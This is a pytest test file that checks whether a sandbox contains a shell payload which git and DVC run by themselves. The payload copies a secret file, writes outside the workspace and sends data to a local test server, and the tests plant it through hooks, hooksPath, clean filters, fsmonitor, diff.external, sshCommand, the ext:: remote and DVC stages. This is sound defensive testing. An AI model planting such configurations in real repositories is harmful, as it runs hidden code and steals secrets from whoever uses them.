"""Repositories in a sandbox: what git and DVC do there, and code that they run by themselves."""

from __future__ import annotations

import socket
import subprocess
import sys
from pathlib import Path

import pytest

from doctranslate.verification.sandbox import SandboxRun, WayName

from .conftest import make

# Leaves a mark in the workspace, which is proof that it ran, and then tries to get out.
PAYLOAD = """#!/bin/sh
touch {mark}
cat {secret} >> {mark}
touch {outside}/written
{python} -c "import socket; socket.create_connection(('127.0.0.1', {port}), 3).send(b'leak')"
exit 0
"""


class World:
    """A repository in the workspace, a secret beside it, and a server that must hear nothing."""

    def __init__(self, root: Path, workspace: Path, server: socket.socket) -> None:
        self.root, self.workspace, self.server = root, workspace, server
        self.secret, self.mark, self.payload = root / "secret", workspace / "mark", workspace / "payload"
        self.secret.write_text("PRIVATE KEY")
        text = PAYLOAD.format(
            mark=self.mark,
            secret=self.secret,
            outside=root,
            python=sys.executable,
            port=server.getsockname()[1],
        )
        self.payload.write_text(text)
        self.payload.chmod(0o755)
        self.work = workspace / "work"
        self.work.mkdir()
        self.env = {
            "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin",
            "HOME": str(workspace / "home"),
            "TMPDIR": str(workspace / "home"),  # Landlock alone gives no /tmp of one's own
            "LANG": "C.UTF-8",
            "GIT_CONFIG_NOSYSTEM": "1",
            "DVC_SITE_CACHE_DIR": str(workspace / "home/site"),
            "DVC_SYSTEM_CONFIG_DIR": str(workspace / "home/system"),
            "DVC_NO_ANALYTICS": "1",
            "PYTHONDONTWRITEBYTECODE": "1",
        }
        (workspace / "home").mkdir()
        settings = "[user]\n\tname = Ada\n\temail = ada@example.com\n[init]\n\tdefaultBranch = main\n"
        (workspace / "home/.gitconfig").write_text(settings)

    def sh(self, way: WayName, script: str) -> SandboxRun:
        """Run a script in the repository, in the sandbox."""
        return make(way).run(["sh", "-ec", script], workspace=self.workspace, cwd=self.work, env=self.env)

    def ran_and_stayed_inside(self) -> bool:
        """Whether the payload ran, got hold of nothing, and reached nobody."""
        with pytest.raises(BlockingIOError):
            self.server.accept()
        assert not (self.root / "written").exists()
        return self.mark.read_text() == ""


@pytest.fixture
def world(tmp_path: Path, workspace: Path):  # type: ignore[no-untyped-def]
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield World(tmp_path, workspace, server)


WORKLOAD = """
import pathlib, sys
from dvc.repo import Repo
from git import Repo as Git
import dvc.api
storage, data = str(pathlib.Path("../storage").resolve()), pathlib.Path("data")
data.mkdir()
for n in range(20):
    (data / f"{n}.csv").write_text(f"{n}\\n")
git = Git.init(".")
with Repo.init() as repo:
    with repo.config.edit() as settings:
        settings["remote"] = {"storage": {"url": storage}}
        settings["core"]["remote"] = "storage"
    repo.add("data")
    repo.scm.add([".dvc/config", "data.dvc", ".gitignore"])
    repo.scm.commit("Add data")
    pushed = repo.push()
git.create_remote("origin", "../origin.git").push("HEAD:refs/heads/main")
clone = Git.clone_from("../origin.git", "../clone", branch="main")
with Repo("../clone") as repo:
    repo.pull()
print(pushed, repr(dvc.api.read("data/7.csv")), [c.message for c in git.iter_commits()])
print(len(list(pathlib.Path("../clone/data").iterdir())))
"""


def test_workload_when_git_and_dvc_then_all_of_it_passes(any_way: WayName, world: World) -> None:
    world.sh(any_way, "git init -q --bare ../origin.git; mkdir ../storage")
    command = [sys.executable, "-c", WORKLOAD]
    done = make(any_way).run(command, workspace=world.workspace, cwd=world.work, env=world.env)
    assert done.stdout.splitlines()[-2:] == ["21 '7\\n' ['Add data']", "20"], done.stderr
    assert (done.returncode, done.stopped) == (0, "")


def test_payload_when_unprotected_then_it_gets_out(world: World) -> None:
    done = world.sh(
        "none", "git init -q; cp ../payload .git/hooks/post-commit; git commit -q --allow-empty -m x"
    )
    assert done.returncode == 0, done.stderr
    assert world.mark.read_text() == "PRIVATE KEY"
    assert (world.root / "written").exists()
    world.server.accept()[0].close()


@pytest.mark.parametrize(
    "script",
    [
        pytest.param(
            "git init -q; cp ../payload .git/hooks/pre-commit; git commit -q --allow-empty -m x", id="hook"
        ),
        pytest.param(
            "git init -q --template=; git config core.hooksPath ..; cp ../payload ../post-commit; git commit -q --allow-empty -m x",
            id="hooks-path",
        ),
        pytest.param(
            "git init -q; git config filter.evil.clean ../payload; echo '*.csv filter=evil' > .gitattributes; echo 1 > a.csv; git add .",
            id="filter",
        ),
        pytest.param('git init -q; git config core.fsmonitor "$PWD/../payload"; git status', id="fsmonitor"),
        pytest.param(
            "git init -q; echo 1 > a; git add a; git config diff.external ../payload; echo 2 > a; git diff",
            id="diff",
        ),
        pytest.param(
            "git init -q; git config core.sshCommand ../payload; git fetch ssh://example.com/x || true",
            id="ssh",
        ),
        pytest.param(
            "git init -q; git -c protocol.ext.allow=always fetch 'ext::../payload' || true", id="ext-remote"
        ),
        pytest.param(
            "git init -q; dvc init -q; dvc install; printf '#!/bin/sh\\n../payload\\n' > .git/hooks/pre-commit; git commit -q --allow-empty -m x",
            id="dvc-install",
        ),
        pytest.param(
            "git init -q; dvc init -q; dvc stage add -q -n evil ../payload; dvc repro -q", id="dvc-stage"
        ),
    ],
)
def test_payload_when_git_or_dvc_runs_it_then_it_stays_inside(
    closed: WayName, world: World, script: str
) -> None:
    done = world.sh(closed, script)
    assert world.mark.exists(), done
    assert world.ran_and_stayed_inside()


def test_hooks_when_dvc_installs_them_then_commits_work(closed: WayName, world: World) -> None:
    done = world.sh(
        closed, "git init -q; dvc init -q; dvc install; git add -A; git commit -q -m x; git log --format=%s"
    )
    assert (done.returncode, done.stdout) == (0, "x\n"), done.stderr


def test_repository_when_left_by_root_or_user_then_git_outside_trusts_it(
    closed: WayName, world: World
) -> None:
    world.sh(closed, "git init -q; git commit -q --allow-empty -m x")
    done = subprocess.run(
        ["git", "log", "--format=%s"],
        cwd=world.work,
        env=world.env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stdout == "x\n", done.stderr
